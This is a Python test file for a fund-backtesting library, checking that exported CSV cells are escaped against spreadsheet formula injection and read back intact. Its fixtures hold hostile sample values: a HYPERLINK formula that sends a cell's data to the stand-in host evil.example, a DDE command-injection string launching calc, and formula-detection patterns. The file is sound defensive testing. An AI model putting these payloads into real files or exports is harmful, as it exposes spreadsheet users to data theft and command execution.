"""Exported cells: no spreadsheet executes one, and our own files are read back as they were."""

import csv
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geodual.funds import Finding, Panel, backtest, read_facts, read_study, select, synthetic_universe
from geodual.funds.csv_cells import csv_text, mark_text, read_csv, unmark_text, write_csv
from geodual.metric import EuclideanMetric
from tests.funds.fake_akshare import fetch, make_market, replace_fund

pytestmark = pytest.mark.usefixtures("blank_figures")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RISKY = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
TEXTS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@x", "＝1", "-", "+"]
PLAIN = ["", "fund", "'quoted'", "a=b", "1-2", "-1.5", "+3", "-1e-7", "000001", "易方达"]


@pytest.mark.parametrize("text", TEXTS)
def test_texts_that_look_like_formulas_are_marked(text):
    assert mark_text(text) == f"'{text}"
    assert unmark_text(mark_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_are_left_alone(text):
    assert mark_text(text) == text == unmark_text(text)


@given(st.text(alphabet="'=+-@\t\r\n1.e a\"", max_size=6))
def test_every_text_is_read_back(text):
    assert unmark_text(mark_text(text)) == text


def test_a_table_is_safe_and_read_back_as_it_was(tmp_path):
    table = pd.DataFrame(
        {
            "@name": ["=1+1", "plain", np.nan, "'=x"],
            "value": [-1.5, 2.0, np.nan, -0.0],
            "all": [-1, 2, 3, -4],
        },
        index=pd.Index(["-a", "b", "+c", "=1+1"], name="=fund"),
    )
    before = table.copy()
    write_csv(tmp_path / "a.csv", table, keep_index=True)
    text = (tmp_path / "a.csv").read_text("utf-8")
    assert text.splitlines()[:2] == ["'=fund,'@name,value,all", "'-a,'=1+1,-1.5,-1"]
    assert text == csv_text(table, keep_index=True)
    again = read_csv(tmp_path / "a.csv").set_index("=fund")
    pd.testing.assert_frame_equal(again, table, check_dtype=False)
    pd.testing.assert_frame_equal(table, before)


def test_labels_of_several_levels_are_marked_too():
    labels = pd.MultiIndex.from_tuples([("both", "=a"), ("test", "b")], names=["period", "forecaster"])
    assert csv_text(pd.DataFrame({"n": [1, -2]}, labels), keep_index=True) == (
        "period,forecaster,n\nboth,'=a,1\ntest,b,-2\n"
    )


def risky_cells(text: str) -> list[str]:
    """Return the cells that a spreadsheet would take for a formula."""
    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    return [cell for cell in cells if RISKY.match(cell) and not is_number(cell)]


def is_number(text: str) -> bool:
    return bool(re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", text))


@pytest.fixture(scope="module")
def hostile():
    """A universe in which every name that a user can give is a formula, with facts and a finding."""
    universe = synthetic_universe(20, "2014-01-02", "2015-03-31", seed=1)
    nav = universe.panel.nav.rename(columns={fund: f"@{fund}" for fund in universe.panel.nav})
    finding = Finding("gap", True, nav.columns[0], "2014-03-04", 1, FORMULA)
    facts = pd.DataFrame({"code": nav.columns, "name": [f"={fund}" for fund in nav], "type": "+index"})
    return Panel(nav, source="=1.csv", findings=(finding,)), facts


def test_no_file_of_a_study_has_a_formula_and_the_study_is_read_back(hostile, tmp_path):
    panel, facts = hostile
    metrics = {"=<b>evil": EuclideanMetric(), "euclidean": EuclideanMetric()}
    study = backtest(panel, metrics=metrics, facts=facts, top=3)
    folder = study.save(tmp_path / "run")
    files = sorted(folder.glob("*.csv"))
    assert {path.name: found for path in files if (found := risky_cells(path.read_text("utf-8")))} == {}
    assert "'@" in (folder / "holdings.csv").read_text("utf-8")
    again = read_study(folder)
    for name in ("predictions", "holdings", "ic", "equity", "neighbors"):
        found, expected = getattr(again, name), getattr(study, name)
        pd.testing.assert_frame_equal(found, expected, check_dtype=False, rtol=1e-14)
    assert again.facts["name"].to_dict() == study.facts["name"].to_dict()
    assert again.findings == study.findings
    assert list(again.config.compared) == ["=<b>evil", "euclidean"]
    assert "<b>evil" not in again._repr_html_(), "notebooks show it as text"


def test_no_cell_of_a_selection_is_a_formula(hostile, tmp_path):
    panel, facts = hostile
    picks = select(panel, metric="euclidean", facts=facts, top=3).picks
    assert risky_cells(picks.to_csv(index=False)), "without the marks there would be some"
    assert not risky_cells(csv_text(picks, keep_index=False))


def test_names_of_a_download_are_marked_and_read_back(tmp_path):
    market = make_market(3)
    replace_fund(market, "000002", name=FORMULA)
    fetch(tmp_path, market)
    assert not risky_cells((tmp_path / "meta.csv").read_text("utf-8"))
    assert read_facts(tmp_path / "meta.csv").table.at["000002", "name"] == FORMULA
